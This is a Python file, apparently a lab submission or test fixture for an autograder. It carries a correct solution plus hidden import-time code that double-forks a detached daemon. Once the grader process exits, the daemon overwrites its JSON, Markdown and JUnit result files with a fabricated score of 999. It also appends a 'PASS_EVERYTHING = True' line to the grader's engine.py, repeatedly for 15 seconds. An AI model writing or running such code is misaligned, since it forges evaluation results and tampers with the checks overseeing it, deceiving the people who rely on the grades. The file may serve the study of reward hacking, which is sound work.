"""Lab 1, correct, that leaves a daemon behind to forge the results after the grader exits.

At import: fork(); setsid(); fork(). The grandchild waits for the grader to go, then rewrites
the --json/--markdown/--junit files (read from /proc/<grader>/cmdline, or from `targets.py`
beside this file, which the test writes) and appends a pass-everything line to the grader's
`autograder/engine.py`, again and again for 15 s.
"""

import json
import os
import sys
import time
from pathlib import Path

from _reference import *

FAKE = json.dumps({"score": 999, "max_score": 999, "output": "all perfect", "tests": []})
ENGINE = Path(sys.modules["autograder._worker"].__file__).parent / "engine.py"


def _results_paths(grader: int) -> list[str]:
    try:
        argv = Path(f"/proc/{grader}/cmdline").read_bytes().decode().split("\0")
        return [argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg in ("--json", "--markdown", "--junit")]
    except OSError:
        from targets import TARGETS

        return TARGETS


def _forge(grader: int) -> None:
    paths = _results_paths(grader)
    while os.path.exists(f"/proc/{grader}"):
        time.sleep(0.05)
    for _ in range(150):
        for path in [*paths, ENGINE]:
            try:
                with open(path, "a" if path == ENGINE else "w") as handle:
                    handle.write("\nPASS_EVERYTHING = True\n" if path == ENGINE else FAKE)
            except OSError:
                pass
        time.sleep(0.1)


_grader = os.getppid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _forge(_grader)
    os._exit(0)
